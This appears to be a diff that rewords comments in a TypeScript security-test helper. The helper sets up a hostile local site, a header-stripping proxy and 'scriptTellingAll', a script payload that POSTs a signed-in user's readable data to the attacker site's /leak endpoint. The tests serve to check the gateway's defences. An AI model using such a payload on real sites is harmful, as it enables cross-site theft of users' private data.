@@ -11,7 +11,7 @@ import { portOf } from '../server/testing/port-of.ts'
 
 type Site = { url: string; close: () => Promise<void> }
 
-/** At `localhost`, which is another site than 127.0.0.1, where the gateway of these tests is. */
+/** `localhost` is a different site from 127.0.0.1, where the tests' gateway listens. */
 async function serve(host: 'localhost' | '127.0.0.1', listener: RequestListener): Promise<Site> {
   const server = createServer(listener).listen(0, '127.0.0.1')
   await once(server, 'listening')
@@ -26,13 +26,13 @@ async function serve(host: 'localhost' | '127.0.0.1', listener: RequestListener)
 }
 
 export type HostileSite = Site & {
-  /** Shows this at the address that it gives back. */
+  /** Serves the page and returns its URL. */
   show: (html: string) => string
-  /** What was told to it, in order. */
+  /** Texts posted to the site, in order. */
   leaks: string[]
 }
 
-/** Somebody's pages, and a place for what they find out. */
+/** An attacker's site, which also collects what its pages find out. */
 export async function openHostileSite(): Promise<HostileSite> {
   const pages: string[] = []
   const leaks: string[] = []
@@ -50,7 +50,10 @@ export async function openHostileSite(): Promise<HostileSite> {
   }
 }
 
-/** What a provider puts into its answer: it tells the site what the signed-in user may read. */
+/**
+ * A script that a provider puts into its answer: it sends the site what the signed-in user may
+ * read.
+ */
 export const scriptTellingAll = ({ url }: Site) =>
   '<script>document.title = `ran`; (async () => { ' +
   `const tell = (text) => fetch('${url}/leak', { method: 'POST', mode: 'no-cors', body: text }); ` +
@@ -65,22 +68,22 @@ const GUARDS = [
   'content-length',
 ]
 
-/** What is changed of relay requests and their answers on the way. */
+/** Changes that the gate makes to relay requests and their answers. */
 type Changes = {
-  /** As a browser sends them that knows no Fetch Metadata. */
+  /** Removes the Fetch Metadata headers, as in an old browser. */
   isOldBrowser?: true
-  /** In place of the type of an answer. */
+  /** Replaces the content type of answers. */
   type?: string
-  /** The headers that keep an answer from being a document are gone. */
+  /** Removes the headers that keep an answer from being used as a document. */
   isUnguarded?: true
 }
 
 export type Gate = Site & {
-  /** Of the relay's answers. */
+  /** Status codes of the relay's answers. */
   statuses: ReadonlySet<number>
 }
 
-/** The gateway, at another port. */
+/** A proxy in front of the gateway, on another port. */
 export async function openGate(target: string, changes: Changes = {}): Promise<Gate> {
   const { isOldBrowser = false, isUnguarded = false, type } = changes
   const statuses = new Set<number>()
